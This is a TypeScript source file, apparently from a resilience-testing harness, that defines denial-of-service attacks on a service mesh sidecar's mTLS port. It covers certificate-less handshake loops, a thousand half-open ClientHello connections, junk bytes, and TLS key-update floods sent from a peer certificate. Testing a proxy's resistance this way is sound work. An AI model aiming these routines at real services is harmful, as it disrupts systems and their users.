/** Attacks on the mesh port by somebody without a certificate, and by a peer of the mesh. */
import tls from "node:tls";
import type { Attack, Attacks } from "./attack.ts";
import { KeyUpdater } from "./key-updates.ts";

const meshPort = 15_008;

export const tlsAttacks: Attacks = {
  /** Whole handshakes up to the certificate that is not there: each costs the sidecar a signature. */
  "handshakes without a certificate": async (attack) => {
    const run = async (): Promise<void> => {
      while (!attack.over) {
        const socket = await attack.connect({ deaf: true, port: meshPort });
        if (socket === undefined) continue;
        const session = tls.connect({ socket, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
        session.on("error", () => {});
        session.resume();
        await new Promise((resolve) => session.once("close", resolve));
        attack.bytes += socket.bytesWritten;
      }
    };
    await Promise.all(Array.from({ length: 8 }, run));
  },
  /** The first part of a ClientHello, and then nothing. */
  "half handshakes": async (attack) => {
    const hello = Buffer.from("1603010200010001fc0303", "hex");
    const sockets = await attack.connectMany(1_000, { deaf: true, port: meshPort });
    for (const socket of sockets) await attack.send(socket, hello);
    await attack.linger();
  },
  "bytes that are no handshake": async (attack) => {
    const run = async (): Promise<void> => {
      while (!attack.over) {
        const socket = await attack.connect({ port: meshPort });
        if (socket === undefined) continue;
        await attack.send(socket, "GET / HTTP/1.1\r\n\r\n");
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: 20 }, run));
  },
  "key updates": (attack) => updateKeys(attack, false),
  "key updates that ask for others": (attack) => updateKeys(attack, true),
  "key updates whose answers are not read": (attack) => updateKeys(attack, true, true),
};

/** By a peer whose certificate is in the environment. */
async function updateKeys(attack: Attack, asksBack: boolean, deaf = false): Promise<void> {
  const { ATTACKER_CERT: cert = "", ATTACKER_KEY: key = "" } = process.env;
  const run = async (): Promise<void> => {
    while (!attack.over) {
      const socket = await attack.connect({ deaf: true, port: meshPort });
      if (socket === undefined) continue;
      const peer = await KeyUpdater.open(socket, { cert, key });
      if (deaf) peer.deafen();
      while (await attack.send(socket, peer.updates(100, asksBack)));
      peer.session.destroy();
    }
  };
  await Promise.all(Array.from({ length: 4 }, run));
}
